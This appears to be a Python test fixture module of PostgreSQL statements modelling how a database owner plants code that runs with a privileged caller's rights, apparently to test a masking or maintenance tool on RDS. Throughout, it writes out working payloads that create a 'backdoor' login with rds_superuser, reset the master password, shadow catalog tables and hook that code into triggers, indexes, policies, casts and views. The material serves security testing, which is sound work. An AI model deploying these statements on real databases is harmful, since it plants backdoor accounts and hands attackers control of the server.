"""What an attacker plants in production, in every place where PostgreSQL runs an owner's code for somebody else."""

PLANT = """
    IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'backdoor') THEN
        CREATE ROLE backdoor LOGIN CREATEROLE PASSWORD 'Back-door-1'; GRANT rds_superuser TO backdoor;
    END IF
"""
BODY = f"BEGIN {PLANT}; {{}} EXCEPTION WHEN insufficient_privilege THEN {{}} END"
ON_DDL = f"""
    CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ {BODY.format("", "NULL;")} $$
"""
FIRES = "CREATE EVENT TRIGGER e ON {} EXECUTE FUNCTION on_ddl()"
# A new login each time, the master's password, and a table and a search path in the way of the catalog's.
ON_LOGIN = """
    CREATE FUNCTION on_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
        IF session_user = 'dba' THEN
            EXECUTE format($s$CREATE ROLE backdoor_%s LOGIN CREATEROLE PASSWORD 'Back-door-1'$s$, pg_backend_pid());
            ALTER ROLE dba PASSWORD 'Back-door-1';
            CREATE TEMP TABLE pg_database (datname name, dathasloginevt boolean);
            CREATE TEMP TABLE pg_roles (rolname name, rolcanlogin boolean);
            PERFORM set_config('search_path', 'public', false);
        END IF;
    END $$;
    CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION on_login()
"""
# On RDS the owner of an event trigger is no superuser.
OF_OWNER = "SET allow_system_table_mods = on; UPDATE pg_event_trigger SET evtowner = 'shop_owner'::regrole"
CRON_VIEW = f"""
    CREATE SCHEMA cron;
    CREATE FUNCTION cron.go() RETURNS bigint LANGUAGE plpgsql AS $$ {BODY.format("RETURN 1;", "RETURN 1;")} $$;
    CREATE VIEW cron.job AS SELECT 1 AS jobid, cron.go() = 1 AS active
"""
# Routines of the master's (dba) and of a role that creates roles, kept from the application or not.
DEFINERS = f"""
    CREATE SCHEMA adm;
    CREATE TABLE adm.audit_log (t text);
    CREATE FUNCTION adm.sudo(t text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE t; END';
    CREATE FUNCTION adm.new_login() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN {PLANT}; END $$;
    REVOKE ALL ON FUNCTION adm.new_login() FROM PUBLIC;
    CREATE FUNCTION adm.note(t text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS
        'BEGIN INSERT INTO audit_log VALUES (t); END';
    CREATE FUNCTION adm.on_write() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
        'BEGIN INSERT INTO audit_log VALUES (''x''); RETURN NEW; END';
    CREATE TABLE adm.watched (id int);
    CREATE TRIGGER watch AFTER INSERT ON adm.watched FOR EACH ROW EXECUTE FUNCTION adm.on_write();
    CREATE FUNCTION adm.step(state int, n int) RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS
        'BEGIN INSERT INTO adm.audit_log VALUES (''written by a reader''); RETURN n; END';
    REVOKE ALL ON FUNCTION adm.step(int, int) FROM PUBLIC;
    CREATE AGGREGATE adm.bumps(int) (sfunc = adm.step, stype = int)
"""
# What waits in the tables of an owner that makes roles: PostgreSQL runs it as the owner, whoever sets it off.
WAITS = f"""
    CREATE ROLE role_maker CREATEROLE;
    GRANT CREATE ON DATABASE shop TO role_maker;
    SET ROLE dba;
    GRANT rds_superuser TO role_maker WITH ADMIN OPTION;
    RESET ROLE;
    SET ROLE role_maker;
    CREATE SCHEMA made;
    CREATE FUNCTION made.plant() RETURNS void LANGUAGE plpgsql AS $$ BEGIN {PLANT}; END $$;
    CREATE FUNCTION made.calm(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
        IF current_setting('made.armed', true) = 'yes' THEN PERFORM made.plant(); END IF; RETURN n;
    END $$;
    CREATE TABLE made.counted (n int);
    INSERT INTO made.counted SELECT generate_series(1, 50);
    CREATE INDEX ON made.counted (made.calm(n));
    CREATE TABLE made.parent (id int PRIMARY KEY);
    CREATE TABLE made.child (id int REFERENCES made.parent ON DELETE CASCADE);
    INSERT INTO made.parent VALUES (1);
    INSERT INTO made.child VALUES (1);
    CREATE FUNCTION made.on_delete() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {PLANT}; RETURN OLD; END $$;
    CREATE TRIGGER waits BEFORE DELETE ON made.child FOR EACH ROW EXECUTE FUNCTION made.on_delete()
"""
# With a temporary table in place of the one that a routine means, its trigger runs as the routine's owner.
LEAD_ASTRAY = f"""
    SET default_transaction_read_only = off;
    CREATE TEMP TABLE audit_log (t text);
    CREATE FUNCTION pg_temp.x() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {PLANT}; RETURN NEW; END $$;
    CREATE TRIGGER x BEFORE INSERT ON audit_log FOR EACH ROW EXECUTE FUNCTION pg_temp.x();
    GRANT ALL ON audit_log TO PUBLIC
"""
# Tries to become the master in every way, then plants; it notes where it ran, and as whom.
_ATTACK = f"""
    CREATE TABLE seen (kind text, login name, role name);
    GRANT INSERT ON seen TO PUBLIC;
    CREATE FUNCTION plant(kind text) RETURNS boolean LANGUAGE plpgsql AS $$
    DECLARE trick text;
    BEGIN
        BEGIN INSERT INTO public.seen VALUES (kind, session_user, current_user); EXCEPTION WHEN OTHERS THEN NULL; END;
        FOREACH trick IN ARRAY ARRAY['RESET ROLE', 'SET ROLE dba', 'RESET SESSION AUTHORIZATION',
            'SET SESSION AUTHORIZATION dba', 'SET ROLE rds_superuser'] LOOP
            BEGIN EXECUTE trick; {PLANT}; EXCEPTION WHEN OTHERS THEN NULL; END;
        END LOOP;
        RETURN true;
    END $$;
    CREATE FUNCTION calm(kind text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
        'BEGIN RETURN public.plant(kind); END';
    CREATE FUNCTION fire() RETURNS trigger LANGUAGE plpgsql AS
        'BEGIN PERFORM public.plant(TG_NAME); RETURN NEW; END'
"""
EVERYWHERE = f"""{_ATTACK};
    CREATE TABLE people (id int PRIMARY KEY, name text, noted boolean DEFAULT plant('default'),
        derived boolean GENERATED ALWAYS AS (calm('generated column')) STORED, CHECK (calm('check of ' || name)));
    INSERT INTO people VALUES (1, 'Ada', true), (2, 'Grace', true);
    CREATE TRIGGER row_trigger BEFORE UPDATE ON people FOR EACH ROW EXECUTE FUNCTION fire();
    CREATE TRIGGER statement_trigger AFTER UPDATE ON people EXECUTE FUNCTION fire();
    CREATE TRIGGER truncate_trigger BEFORE TRUNCATE ON people EXECUTE FUNCTION fire();
    CREATE CONSTRAINT TRIGGER deferred_trigger AFTER UPDATE ON people DEFERRABLE INITIALLY DEFERRED
        FOR EACH ROW EXECUTE FUNCTION fire();
    CREATE INDEX ON people (calm('expression index of ' || name));
    CREATE INDEX ON people (name) WHERE calm('partial index of ' || name);
    CREATE STATISTICS odd ON calm('statistics of ' || name), id FROM people;
    CREATE TABLE keyed (id int GENERATED ALWAYS AS IDENTITY PRIMARY KEY);
    INSERT INTO keyed DEFAULT VALUES;
    CREATE INDEX ON keyed ((calm('planner of an index')));
    CREATE TABLE counted (id int GENERATED ALWAYS AS IDENTITY PRIMARY KEY);
    INSERT INTO counted DEFAULT VALUES;
    CREATE STATISTICS constant ON (calm('planner of statistics')), id FROM counted;
    CREATE TABLE ruled (id int);
    INSERT INTO ruled VALUES (1);
    CREATE RULE also AS ON UPDATE TO ruled DO ALSO SELECT plant('rule');
    CREATE DOMAIN checked AS text CHECK (public.plant('domain'));
    CREATE TABLE domained (d checked);
    CREATE VIEW viewed AS SELECT plant('view') AS planted;
    CREATE MATERIALIZED VIEW remembered AS SELECT plant('materialized view') AS planted;
    CREATE TABLE parts (id int) PARTITION BY LIST (calm('partition key of ' || id::text));
    CREATE TABLE part PARTITION OF parts DEFAULT;
    CREATE FUNCTION step(state int, n int) RETURNS int LANGUAGE plpgsql AS
        'BEGIN PERFORM public.plant(''aggregate''); RETURN n; END';
    CREATE AGGREGATE odd_sum(int) (sfunc = step, stype = int);
    CREATE FUNCTION same(a people, b people) RETURNS boolean LANGUAGE plpgsql AS
        'BEGIN RETURN public.plant(''operator''); END';
    CREATE OPERATOR === (leftarg = people, rightarg = people, function = same);
    CREATE FUNCTION to_number(a people) RETURNS int LANGUAGE plpgsql AS
        'BEGIN PERFORM public.plant(''cast''); RETURN 1; END';
    CREATE CAST (people AS int) WITH FUNCTION to_number(people) AS IMPLICIT;
    CREATE TABLE hidden (id int);
    INSERT INTO hidden VALUES (1);
    ALTER TABLE hidden ENABLE ROW LEVEL SECURITY;
    CREATE POLICY odd ON hidden USING (plant('policy'));
    TRUNCATE seen
"""
# A masking that touches all of it.
TOUCHES = (
    "UPDATE public.people SET name = 'masked ' || id",
    "INSERT INTO public.people (id, name) VALUES (3, 'new')",
    "UPDATE public.ruled SET id = 2",
    "INSERT INTO public.domained VALUES ('x')",
    "SELECT * FROM public.viewed",
    "REFRESH MATERIALIZED VIEW public.remembered",
    "ANALYZE public.people",
    "INSERT INTO public.parts VALUES (1)",
    "SELECT public.odd_sum(id) FROM public.people",
    "SELECT p OPERATOR(public.===) p FROM public.people AS p",
    "SELECT p::int FROM public.people AS p",
    "SELECT * FROM public.hidden",
    "ALTER TABLE public.people ALTER COLUMN name TYPE varchar(90)",
    "CLUSTER public.people USING people_pkey",
    "TRUNCATE public.people",
)
KINDS = {
    "row_trigger", "statement_trigger", "truncate_trigger", "deferred_trigger", "default", "generated column",
    "check of masked 1", "expression index of masked 1", "partial index of masked 1", "rule", "domain", "view",
    "materialized view", "partition key of 1", "aggregate", "operator", "cast",
}  # fmt: skip
